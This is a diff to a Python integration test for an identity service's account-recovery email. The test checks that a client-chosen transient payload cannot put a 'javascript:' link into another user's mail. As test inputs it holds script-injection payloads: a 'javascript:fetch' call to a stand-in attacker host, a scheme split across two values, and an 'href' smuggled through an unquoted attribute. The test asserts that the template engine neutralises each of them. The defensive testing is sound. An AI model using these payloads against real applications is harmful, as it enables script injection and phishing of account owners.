@@ -24,8 +24,13 @@ SHOWN = (
     "|{{ if .RequestURL }}url{{ end }}|{{ len %s }}"
 )
 
-# An operator's HTML body that links to where the client asks (as Go's html/template renders it).
-LINKED = '<a href="{{ .TransientPayload.next }}">Continue</a> {{ .RecoveryCode }}'
+# An operator's HTML body that links to where the client asks (as Go's html/template renders it):
+# a value alone, one through `html`, a link made of two values, and a value in an unquoted attribute.
+LINKED = (
+    '<a href="{{ .TransientPayload.next }}">Continue</a> <a href="{{ .TransientPayload.next | html }}">Again</a> '
+    '<a href="{{ .TransientPayload.scheme }}{{ .TransientPayload.rest }}">Split</a> '
+    '<a class={{ .TransientPayload.look }} href="https://example.com/">Home</a> {{ .RecoveryCode }}'
+)
 
 
 def _b64(text: str) -> str:
@@ -75,14 +80,21 @@ def test_a_recovery_code_mail_gets_the_flows_transient_payload(stack: CodeStack)
 def test_a_client_cannot_put_a_script_link_into_a_mail_sent_to_someone_else(stack: CodeStack) -> None:
     """Anyone may start a recovery for any address, with a transient payload of their choosing: an
     HTML body that links to a value from it must not give the mail's owner a `javascript:` link (Go's
-    html/template, which Kratos renders with, refuses the scheme in a URL attribute)."""
+    html/template, which Kratos renders with, refuses the scheme in a URL attribute): not through a
+    pipeline ending in `html`, not spelled over two values (both start the link, as in Go), not as
+    an attribute a value in an unquoted one adds (the first `href` is the one a browser follows)."""
     email = f"tp-{uuid.uuid4().hex[:8]}@example.com"
     create_identity(stack.warden.admin_url, email)
     flow = stack.native.get("/self-service/recovery/api").json()
-    body = {"method": "code", "email": email, "transient_payload": {"next": "javascript:fetch('//evil.example')"}}
+    script = "javascript:fetch('//evil.example')"
+    payload = {"next": script, "scheme": "java", "rest": script[4:], "look": f"x href={script}"}
+    body = {"method": "code", "email": email, "transient_payload": payload}
     assert stack.native.post(f"/self-service/recovery?flow={flow['id']}", body).status == 200
     [mail] = wait_for_mail(stack.smtp, email)
-    assert mail.html.startswith('<a href="#ZgotmplZ">Continue</a> '), mail.html
+    assert mail.html.startswith(
+        '<a href="#ZgotmplZ">Continue</a> <a href="#ZgotmplZ">Again</a> <a href="java#ZgotmplZ">Split</a> '
+        '<a class=x&#32;href&#61;javascript:fetch(&#39;//evil.example&#39;) href="https://example.com/">Home</a> '
+    ), mail.html
 
 
 def _signed_up(stack: CodeStack, email: str, payload: dict[str, str]) -> str:
